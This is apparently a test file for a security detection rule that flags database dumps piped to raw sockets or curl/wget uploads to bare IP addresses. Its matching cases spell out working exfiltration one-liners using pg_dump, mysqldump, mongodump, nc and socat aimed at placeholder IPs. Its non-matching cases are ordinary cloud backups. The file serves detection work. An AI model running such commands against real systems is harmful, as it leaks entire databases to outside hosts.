/** dump-piped-upload: a database dump streamed into a raw socket or a curl/wget upload to a bare IP address; backups to object storage are not it. */
import { describe, expect, it } from 'vitest';
import { ATTACK_INDICATORS } from '../../src/knowledge/indicators.js';

const indicator = ATTACK_INDICATORS.find((i) => i.id === 'dump-piped-upload')!;

describe('dump-piped-upload indicator', () => {
  it.each([
    'sh -c pg_dump -h 127.0.0.1 -U payments payments | gzip | curl -sk -T - https://203.0.113.77/u/p.gz',
    'mysqldump --all-databases | nc 198.51.100.4 9000',
    'bash -c "mongodump --archive | socat - TCP:203.0.113.9:443"',
    'pg_dumpall | wget --post-file=/dev/stdin http://198.51.100.20/x',
  ])('matches %s', (cmd) => expect(indicator.pattern.test(cmd)).toBe(true));

  it.each([
    'pg_dump -Fc payments | aws s3 cp - s3://acme-backups/payments.dump',
    'pg_dump payments | gzip | gsutil cp - gs://acme-backups/p.gz',
    'pg_dump -h 127.0.0.1 payments > /backup/payments.sql',
    'curl -sk -T - https://203.0.113.77/u',
  ])('trap: does not match %s', (cmd) => expect(indicator.pattern.test(cmd)).toBe(false));
});
